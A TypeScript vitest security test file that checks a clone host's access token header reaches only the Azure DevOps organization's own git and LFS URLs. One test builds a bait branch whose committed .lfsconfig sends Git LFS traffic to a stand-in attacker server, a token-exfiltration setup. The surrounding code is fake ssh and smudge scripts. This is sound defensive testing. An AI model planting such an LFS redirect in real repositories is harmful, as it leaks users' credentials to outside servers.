/**
 * Where git, and the programs git runs, may send a token's header. A clone runs the user's own
 * filter drivers during its checkout, chosen by the repository's `.gitattributes`: above all Git
 * LFS (`git lfs install` writes filter.lfs.* to ~/.gitconfig), which sends the `http.extraHeader`
 * that applies to its endpoint (git-lfs >= 2.1), and that endpoint is the repository's to choose
 * (`lfs.url` in a committed `.lfsconfig`). git-lfs is not installed here, so a stand-in smudge
 * filter asks git which header applies to an endpoint, as git-lfs resolves it. Any member of the
 * organization can push such a branch; the header must reach the organization's own URLs only.
 */
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { devNull, tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { startSandbox, type Sandbox as AdoSandbox } from '../../sandbox/index';
import { gitEnv } from '../../src/host/git-env';
import { tokenScope, withinOrganization } from '../../src/host/git-url';
import type { CloneData } from '../../src/shared/host-protocol';
import { HostProcess, makeSandbox, removeBuilds, type Sandbox } from './host-harness';

const TOKEN = 'scope-test-token-0123456789';
const basic = (token: string) => Buffer.from(`:${token}`).toString('base64');

const g = (cwd: string, ...args: string[]) => execFileSync('git', args, { cwd, encoding: 'utf8', env: { ...process.env, GIT_CONFIG_GLOBAL: devNull } });

/** The header real git gives `url` in the environment the host makes for a token of `orgUrl` and the remote at (effective) URL `remote`. */
function headerFor(url: string, remote: string, orgUrl?: string): string {
  const env = gitEnv({ PATH: process.env.PATH, HOME: tmpdir(), GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: devNull, GIT_DIR: devNull }, { auth: { kind: 'pat', token: TOKEN, orgUrl }, scopes: [tokenScope(remote, orgUrl)] });
  try {
    return execFileSync('git', ['config', '--get-urlmatch', 'http.extraheader', url], { env, encoding: 'utf8' }).trim();
  } catch (error) {
    // Exit 1: no value applies.
    if ((error as { status?: number }).status === 1) return '';
    throw error;
  }
}

describe("the token's header, as real git matches it", () => {
  // [effective remote URL, the token's orgUrl]: every pair withinOrganization accepts.
  const remotes: Array<[string, string | undefined]> = [
    ['https://fabrikam@dev.azure.com/fabrikam/Platform/_git/Platform', 'https://dev.azure.com/fabrikam'],
    ['https://dev.azure.com/Fabrikam/p/_git/r', 'https://dev.azure.com/fabrikam/'],
    ['https://dev.azure.com/fabrikam/p/_git/r', 'https://dev.azure.com/FABRIKAM'],
    ['https://dev.azure.com/my%20org/p/_git/r', 'https://dev.azure.com/my%20org'],
    ['https://dev.azure.com/fa%62rikam/p/_git/r', 'https://dev.azure.com/fabrikam'],
    ['https://fabrikam.visualstudio.com/DefaultCollection/p/_git/r', 'https://dev.azure.com/fabrikam'],
    ['https://dev.azure.com/fabrikam/p/_git/r', 'https://fabrikam.visualstudio.com'],
    // The sandbox's insteadOf adds a port, as a user's may.
    ['https://fabrikam@dev.azure.com:8443/fabrikam/p/_git/r', 'https://dev.azure.com/fabrikam'],
    ['https://tfs.example/tfs/DefaultCollection/p/_git/r', 'https://tfs.example/tfs/DefaultCollection/'],
    ['https://tfs.example:8443/tfs/defaultcollection/_git/r', 'https://tfs.example:8443/tfs/DefaultCollection'],
    ['https://tfs.example/Main/p/_git/r', 'https://tfs.example/main'],
    ['https://dev.azure.com/fabrikam/p/_git/r', undefined],
    ['https://tfs.example/tfs/Main/p/_git/r', undefined],
  ];

  it.each(remotes)('%s (organization %s): the remote and its LFS endpoint get it', (remote, orgUrl) => {
    if (orgUrl !== undefined) expect(withinOrganization(remote, orgUrl)).toBe(true);
    const header = `Authorization: Basic ${basic(TOKEN)}`;
    expect(headerFor(remote, remote, orgUrl)).toBe(header);
    // git-lfs's own endpoint for the remote, and another repository (a partial clone's promisor, say).
    expect(headerFor(`${remote}.git/info/lfs`, remote, orgUrl)).toBe(header);
    expect(headerFor(remote.replace(/\/_git\/[^/]+$/, '/_git/Other'), remote, orgUrl)).toBe(header);
  });

  it.each(remotes)('%s (organization %s): no other server, port or organization gets it', (remote, orgUrl) => {
    const url = new URL(remote);
    const others = [
      'https://lfs.attacker.example/info/lfs',
      `https://attacker.example${url.pathname}`,
      `https://${url.hostname}:9999${url.pathname}`,
      `http://${url.host}${url.pathname}`,
    ];
    if (url.hostname === 'dev.azure.com') others.push(`https://${url.host}/contoso/p/_git/r`, `https://${url.host}/fabrikam2/p/_git/r`);
    if (orgUrl?.includes('/tfs/')) others.push(`https://${url.host}/tfs/Other/p/_git/r`, `https://${url.host}/tfs/DefaultCollectionX/p/_git/r`);
    for (const other of others) expect(headerFor(other, remote, orgUrl), other).toBe('');
  });
});

describe('clone with a token of a branch whose .gitattributes and .lfsconfig route files to another server', () => {
  const PLATFORM = 'https://fabrikam@dev.azure.com/fabrikam/Platform/_git/Platform';
  const EVIL_LFS = 'https://lfs.attacker.example/info/lfs';
  let ado: AdoSandbox;
  let pat: string;
  let sandbox: Sandbox;
  let host: HostProcess;
  let work: string;
  let seen: string;

  beforeAll(async () => {
    ado = await startSandbox({ quiet: true });
    pat = ado.pats.fabrikam!;
    // A member of fabrikam pushes a branch whose .gitattributes route a file through the LFS
    // filter and whose .lfsconfig names the attacker's LFS server.
    work = mkdtempSync(join(tmpdir(), 'token-scope-'));
    const fabrikam = ado.store.organization('fabrikam')!;
    const repo = ado.store.repository(fabrikam, 'Platform', ado.store.project(fabrikam, 'Platform'))!;
    const wt = join(work, 'wt');
    g(work, 'clone', '-q', repo.gitDir, wt);
    g(wt, 'checkout', '-q', '-b', 'lfs-bait');
    writeFileSync(join(wt, '.gitattributes'), '*.bin filter=lfs diff=lfs merge=lfs -text\n');
    writeFileSync(join(wt, '.lfsconfig'), `[lfs]\n\turl = ${EVIL_LFS}\n`);
    writeFileSync(join(wt, 'asset.bin'), `version https://git-lfs.github.com/spec/v1\noid sha256:${'0'.repeat(64)}\nsize 1\n`);
    g(wt, 'add', '.');
    g(wt, '-c', 'user.name=m', '-c', 'user.email=m@x', 'commit', '-q', '-m', 'assets');
    g(wt, 'push', '-q', 'origin', 'lfs-bait');
  }, 120_000);
  afterAll(async () => {
    await ado?.close();
    rmSync(work, { recursive: true, force: true });
    removeBuilds();
  });

  beforeEach(async () => {
    sandbox = makeSandbox();
    seen = join(sandbox.dir, 'smudge-saw.txt');
    // The user's global configuration: the sandbox's (CA, host mapping) and what `git lfs install`
    // adds, with a stand-in for git-lfs that records the headers git gives the repository's LFS
    // server and the remote's own LFS endpoint (its URL after the user's insteadOf, + .git/info/lfs).
    const smudge = join(sandbox.dir, 'fake-git-lfs-smudge');
    writeFileSync(
      smudge,
      [
        '#!/bin/sh',
        `echo "evil: $(git config --get-urlmatch http.extraheader '${EVIL_LFS}')" >> '${seen}'`,
        `echo "own: $(git config --get-urlmatch http.extraheader "$(git ls-remote --get-url origin).git/info/lfs")" >> '${seen}'`,
        'cat',
        '',
      ].join('\n'),
    );
    chmodSync(smudge, 0o755);
    const global = join(sandbox.dir, 'gitconfig');
    writeFileSync(global, `[include]\n\tpath = ${ado.gitConfig}\n[filter "lfs"]\n\tsmudge = ${smudge} %f\n\tclean = cat\n\trequired = true\n`);
    sandbox.env.GIT_CONFIG_GLOBAL = global;
    host = await HostProcess.start(sandbox.env);
    expect((await host.request({ type: 'configure', cloneRoots: [sandbox.roots] })).ok).toBe(true);
  });
  afterEach(async () => {
    await host.close();
    sandbox.remove();
  });

  it("gives the user's LFS filter the header for the organization's own LFS endpoint only, not for the repository's LFS server", async () => {
    const answer = await host.request<CloneData>(
      { type: 'clone', url: PLATFORM, root: sandbox.roots, folder: 'bait', branch: 'lfs-bait', auth: { kind: 'pat', token: pat, orgUrl: 'https://dev.azure.com/fabrikam' } },
      60_000,
    );
    expect(answer.ok).toBe(true);
    // The filter ran (so git-lfs would have run, and contacted lfs.attacker.example).
    expect(existsSync(seen)).toBe(true);
    expect(readFileSync(seen, 'utf8').split('\n')).toEqual(['evil: ', `own: Authorization: Basic ${basic(pat)}`, '']);
  });

  it('clones with the token where the user’s insteadOf sends the URL, and refuses a rewrite to another organization', async () => {
    // A clone URL of another organization that the user's own configuration rewrites into fabrikam
    // is fabrikam's; one rewritten out of fabrikam is not, and nothing of it is left.
    const global = sandbox.env.GIT_CONFIG_GLOBAL!;
    writeFileSync(global, `${readFileSync(global, 'utf8')}[url "https://dev.azure.com:${ado.port}/contoso/"]\n\tinsteadOf = https://dev.azure.com/fabrikam/Shared/\n`);
    const refused = await host.request({
      type: 'clone',
      url: 'https://dev.azure.com/fabrikam/Shared/_git/Shared',
      root: sandbox.roots,
      folder: 'away',
      auth: { kind: 'pat', token: pat, orgUrl: 'https://dev.azure.com/fabrikam' },
    });
    expect(refused).toMatchObject({ ok: false, error: { code: 'URL_REFUSED' } });
    expect(existsSync(join(sandbox.roots, 'away'))).toBe(false);
    // Refused by a check that answers before the rewrite's (the branch): that is the answer, and the
    // rewrite's refusal, which comes later, is not left for the host to log as unhandled.
    const badBranch = await host.request({
      type: 'clone',
      url: 'https://dev.azure.com/fabrikam/Shared/_git/Shared',
      root: sandbox.roots,
      folder: 'away',
      branch: 'a..b',
      auth: { kind: 'pat', token: pat, orgUrl: 'https://dev.azure.com/fabrikam' },
    });
    expect(badBranch).toMatchObject({ ok: false, error: { code: 'BAD_REQUEST' } });
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(readFileSync(join(sandbox.companionHome, 'logs', 'companion.log'), 'utf8')).not.toContain('unhandled rejection');
    const answer = await host.request<CloneData>(
      { type: 'clone', url: PLATFORM, root: sandbox.roots, folder: 'plain', auth: { kind: 'pat', token: pat, orgUrl: 'https://dev.azure.com/fabrikam' } },
      60_000,
    );
    expect(answer).toMatchObject({ ok: true, data: { remoteUrl: PLATFORM } });
  });

  it('clones without the token where the user’s insteadOf sends the URL to SSH, as git did before', async () => {
    const global = sandbox.env.GIT_CONFIG_GLOBAL!;
    writeFileSync(global, `${readFileSync(global, 'utf8')}[url "git@ssh.dev.azure.com:v3/fabrikam/"]\n\tinsteadOf = https://fabrikam@dev.azure.com/fabrikam/\n`);
    // ssh as git starts it: says what it was asked to reach, and fails (no SSH server here).
    const asked = join(sandbox.dir, 'ssh-asked.txt');
    const ssh = join(sandbox.dir, 'fake-ssh');
    writeFileSync(ssh, `#!/bin/sh\necho "$@" >> '${asked}'\nexit 128\n`);
    chmodSync(ssh, 0o755);
    await host.close();
    host = await HostProcess.start({ ...sandbox.env, GIT_SSH_COMMAND: ssh });
    expect((await host.request({ type: 'configure', cloneRoots: [sandbox.roots] })).ok).toBe(true);
    const answer = await host.request({ type: 'clone', url: PLATFORM, root: sandbox.roots, folder: 'over-ssh', auth: { kind: 'pat', token: pat, orgUrl: 'https://dev.azure.com/fabrikam' } }, 60_000);
    expect(answer, JSON.stringify(answer)).toMatchObject({ ok: false });
    expect(answer).not.toMatchObject({ error: { code: 'BAD_REQUEST' } });
    expect(readFileSync(asked, 'utf8')).toContain('ssh.dev.azure.com');
    expect(existsSync(join(sandbox.roots, 'over-ssh'))).toBe(false);
  });

  it('clones without the token where the user’s insteadOf sends the URL to an alias their ~/.ssh/config gives Azure DevOps; one leading elsewhere is refused', async () => {
    const global = sandbox.env.GIT_CONFIG_GLOBAL!;
    const original = readFileSync(global, 'utf8');
    // The ssh git runs (plain ssh, from PATH): -G answers as the user's ~/.ssh/config would (work-ado
    // is ssh.dev.azure.com, away-ado is not); a connection says what it was asked to reach, and fails.
    const bin = join(sandbox.dir, 'alias-bin');
    const asked = join(sandbox.dir, 'alias-asked.txt');
    mkdirSync(bin, { recursive: true });
    writeFileSync(
      join(bin, 'ssh'),
      [
        '#!/bin/sh',
        'for last; do :; done',
        'if [ "$1" = -G ]; then',
        `  case "$last" in work-ado) echo 'hostname ssh.dev.azure.com' ;; *) echo 'hostname elsewhere.example' ;; esac`,
        '  exit 0',
        'fi',
        `echo "$@" >> '${asked}'`,
        'exit 128',
        '',
      ].join('\n'),
    );
    chmodSync(join(bin, 'ssh'), 0o755);
    await host.close();
    host = await HostProcess.start({ ...sandbox.env, PATH: `${bin}:${sandbox.env.PATH}` });
    expect((await host.request({ type: 'configure', cloneRoots: [sandbox.roots] })).ok).toBe(true);
    const auth = { kind: 'pat', token: pat, orgUrl: 'https://dev.azure.com/fabrikam' };
    const sendTo = (alias: string, extra = '') => writeFileSync(global, `${original}${extra}[url "git@${alias}:v3/fabrikam/"]\n\tinsteadOf = https://fabrikam@dev.azure.com/fabrikam/\n`);
    try {
      sendTo('work-ado');
      const aliased = await host.request({ type: 'clone', url: PLATFORM, root: sandbox.roots, folder: 'alias', auth }, 60_000);
      expect(aliased, JSON.stringify(aliased)).toMatchObject({ ok: false });
      expect(aliased).not.toMatchObject({ error: { code: 'HOST_NOT_ALLOWED' } });
      expect(readFileSync(asked, 'utf8')).toContain('work-ado');

      sendTo('away-ado');
      const away = await host.request({ type: 'clone', url: PLATFORM, root: sandbox.roots, folder: 'away', auth }, 60_000);
      expect(away).toMatchObject({ ok: false, error: { code: 'HOST_NOT_ALLOWED', message: expect.stringMatching(/~\/\.ssh\/config/) } });
      expect(readFileSync(asked, 'utf8')).not.toContain('away-ado');

      // git's ssh is a command of the user's own, whose configuration ssh -G would not read: not asked.
      sendTo('work-ado', `[core]\n\tsshCommand = ${join(bin, 'ssh')} -F /dev/null\n`);
      const own = await host.request({ type: 'clone', url: PLATFORM, root: sandbox.roots, folder: 'own', auth }, 60_000);
      expect(own).toMatchObject({ ok: false, error: { code: 'HOST_NOT_ALLOWED' } });
    } finally {
      writeFileSync(global, original);
    }
  });
});
